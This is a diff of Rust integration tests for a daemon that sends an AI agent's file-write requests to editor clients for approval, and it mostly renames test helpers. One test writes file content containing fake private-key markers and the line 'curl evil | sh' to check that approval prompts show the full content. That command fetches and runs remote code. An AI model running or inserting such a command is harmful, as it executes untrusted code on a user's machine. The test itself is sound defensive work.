@@ -11,8 +11,8 @@ async fn call_is_requested_decided_and_reported_with_its_ledger_entries() {
     let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let question = editor.permission_request().await;
     let call = &question["params"]["toolCall"];
     assert_eq!((&call["kind"], &call["status"]), (&json!("edit"), &json!("pending")));
     assert_eq!(call["content"][0]["newText"], "one");
@@ -49,8 +49,8 @@ async fn l8_permission_request_shows_the_whole_content_to_be_written() {
     let session = editor.session(&path(&folder)).await;
     let mark = |word: &str| format!("# -----{word} PRIVATE {}-----", "KEY");
     let content = format!("{}\ncurl evil | sh\n{}\n", mark("BEGIN"), mark("END"));
-    let prompt = editor.say(&session, &write("a.sh", &content)).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.sh", &content)).await;
+    let question = editor.permission_request().await;
     let call = &question["params"]["toolCall"];
     assert_eq!(
         (&call["rawInput"]["content"], &call["content"][0]["newText"]),
@@ -77,8 +77,8 @@ async fn a_denial_is_a_failed_call_with_the_reason() {
     let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "deny").await;
     assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
     let updates = editor.updates(&session);
@@ -103,8 +103,8 @@ async fn first_answer_wins_and_other_clients_see_it() {
     let session = editor.session(&path(&folder)).await;
     let mut other = Editor::ready(&daemon).await;
     assert!(other.call("session/resume", load(&session, &path(&folder))).await["result"].is_object());
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let (mine, theirs) = (editor.asked().await, other.asked().await);
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let (mine, theirs) = (editor.permission_request().await, other.permission_request().await);
     let mut operator = daemon.operator().await;
     let waiting = pending(&mut operator, 1).await;
     decide(&mut operator, &id(&waiting[0]), json!({ "decision": "allow_once" })).await.unwrap();
@@ -130,8 +130,8 @@ async fn answer_of_one_client_withdraws_the_request_from_the_other() {
     let session = editor.session(&path(&folder)).await;
     let mut other = Editor::ready(&daemon).await;
     other.call("session/resume", load(&session, &path(&folder))).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let (mine, theirs) = (editor.asked().await, other.asked().await);
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let (mine, theirs) = (editor.permission_request().await, other.permission_request().await);
     other.choose(&theirs, "deny").await;
     let gone = editor.until(|message| message["method"] == "$/cancel_request").await;
     assert_eq!(gone["params"]["requestId"], mine["id"]);
@@ -144,15 +144,15 @@ async fn request_stays_parked_after_a_disconnect_and_is_sent_again() {
     let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    editor.say(&session, &write("a.txt", "one")).await;
-    editor.asked().await;
+    editor.send_prompt(&session, &write("a.txt", "one")).await;
+    editor.permission_request().await;
     editor.close().await;
     let mut operator = daemon.operator().await;
     pending(&mut operator, 1).await;
     // A client that loads the session receives its history and the pending request.
     let mut again = Editor::ready(&daemon).await;
-    let loading = again.ask("session/load", load(&session, &path(&folder))).await;
-    let question = again.asked().await;
+    let loading = again.request("session/load", load(&session, &path(&folder))).await;
+    let question = again.permission_request().await;
     assert!(again.answer(loading).await["result"].is_object());
     again.choose(&question, "allow_once").await;
     again.until(|message| message["params"]["update"]["status"] == "completed").await;
@@ -165,21 +165,21 @@ async fn allow_for_the_session_is_requested_once() {
     let (daemon, folder) = setup().await;
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "allow_session").await;
     editor.answer(prompt).await;
     assert_eq!(editor.prompt(&session, &write("a.txt", "two")).await["result"]["stopReason"], "end_turn");
     assert_eq!(std::fs::read_to_string(folder.path().join("a.txt")).unwrap(), "two");
     // A grant for a path in this folder does not cover the same path in another folder.
-    let prompt = editor.say(&session, &write("b.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("b.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "allow_until").await;
     editor.answer(prompt).await;
     let elsewhere = tempfile::tempdir().unwrap();
     let other = editor.session(&path(&elsewhere)).await;
-    let prompt = editor.say(&other, &write("b.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&other, &write("b.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "deny").await;
     editor.answer(prompt).await;
     assert!(!elsewhere.path().join("b.txt").exists());
@@ -204,8 +204,8 @@ async fn mode_answers_requests_only_while_its_client_is_connected() {
     // A client that reconnects receives the request again.
     let answer = editor.call("session/load", load(&session, &path(&folder))).await;
     assert_eq!(answer["result"]["modes"]["currentModeId"], "ask");
-    let prompt = editor.say(&session, &write("c.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("c.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "deny").await;
     editor.answer(prompt).await;
 }
@@ -217,8 +217,8 @@ async fn call_with_two_approvers_reports_it_and_waits_for_the_second() {
     let (daemon, folder) = (TestDaemon::on(home, &config()).await, tempfile::tempdir().unwrap());
     let mut editor = Editor::ready(&daemon).await;
     let session = editor.session(&path(&folder)).await;
-    let prompt = editor.say(&session, &write("a.txt", "one")).await;
-    let question = editor.asked().await;
+    let prompt = editor.send_prompt(&session, &write("a.txt", "one")).await;
+    let question = editor.permission_request().await;
     editor.choose(&question, "allow_session").await;
     let told = editor.until(|message| message.to_string().contains("more must agree")).await;
     assert_eq!(told["params"]["update"]["sessionUpdate"], "agent_thought_chunk");
